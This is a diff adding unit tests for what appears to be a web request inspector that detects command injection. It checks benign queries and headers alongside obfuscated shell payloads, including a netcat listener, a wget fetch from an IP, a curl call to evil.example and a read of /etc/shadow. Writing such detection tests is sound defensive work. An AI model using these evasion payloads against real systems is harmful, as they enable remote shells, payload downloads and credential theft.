@@ -40,3 +40,75 @@ describe('cmdi: cmd.exe FOR and IF forms', () => {
     expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
   });
 });
+
+const header = (name: string, v: string): InspectRequest => ({ method: 'GET', path: '/api/items', query: '', headers: { host: 'api.example.com', [name]: v } });
+
+describe('cmdi: shell reading of variables, prefixes, brace alternatives and letter case', () => {
+  it.each([
+    ['cmdi.obfuscated-word', 'a=nc;$a -lvp 4444'],
+    ['cmdi.obfuscated-word', 'x=adduse[r];$x bob'],
+    ['cmdi.obfuscated-word', '|$u wget http://192.0.2.9/s'],
+    ['cmdi.obfuscated-word', "wh$u'o'ami"],
+    ['cmdi.obfuscated-word', '{n$u\\c,-lvp,4444}'],
+    ['cmdi.obfuscated-word', "{,$'uname',-a}"],
+    ['cmdi.obfuscated-word', 'pi``ng -c 1 10.0.0.1'],
+    ['cmdi.obfuscated-word', 'w>()hoami'],
+    ['cmdi.glob-path', '/usr/bin/[w]hoami'],
+    ['cmdi.leading-command', 'strace -f ifconfig'],
+    ['cmdi.leading-command', 'nohup uname'],
+    ['cmdi.leading-command', 'flock /tmp/lock uname'],
+    ['cmdi.leading-command', 'time curl evil.example'],
+    ['cmdi.leading-command', "kill '-'9 1"],
+    ['cmdi.leading-command', 'cd /;ls'],
+    ['cmdi.leading-command', 'ansible all -m shell'],
+    ['cmdi.chained-command', ';date -f /etc/shadow'],
+    ['cmdi.chained-command', '; journalctl --no-pager'],
+    ['cmdi.chained-command', ';CHMOD +X A.PHP'],
+  ])('%s: %s', (id, v) => {
+    expect(rules(v)).toContain(id);
+  });
+
+  it.each([
+    ['user-agent', 'env --version'],
+    ['user-agent', 'nohup ifconfig'],
+    ['referer', 'perf --version'],
+  ])('header %s: %s', (name, v) => {
+    expect(inspector.inspect(header(name, v)).blocked).toBe(true);
+  });
+
+  it.each([
+    'Skills: Java; Python; Docker',
+    'Stack: Go; Rust; Ansible -- all good',
+    'time python is slow',
+    'Time python scripts carefully',
+    'nohup is a unix command',
+    'npm install --save express',
+    'pip install -r requirements.txt',
+    'docker run -it ubuntu',
+    '"python tutorial"',
+    '"cat videos" funny',
+    'price$total is wrong',
+    'Our sort order; find it in settings',
+    'set the time; date tbd',
+    'cd and dvd collection; ip phone',
+    '{red,green} and [u]nderline',
+    'see docs/[draft]notes',
+    'a=1; b=2; total=$a',
+  ])('passes: %s', (v) => {
+    const r = inspector.inspect(query(v));
+    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
+  });
+
+  it.each([
+    ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36'],
+    ['user-agent', 'curl/8.4.0'],
+    ['user-agent', 'node'],
+    ['user-agent', 'ansible-httpget'],
+    ['user-agent', 'Go-http-client/1.1'],
+    ['referer', 'https://example.com/search?q=env --version'],
+    ['x-note', 'env --version'],
+  ])('header passes %s: %s', (name, v) => {
+    const r = inspector.inspect(header(name, v));
+    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
+  });
+});
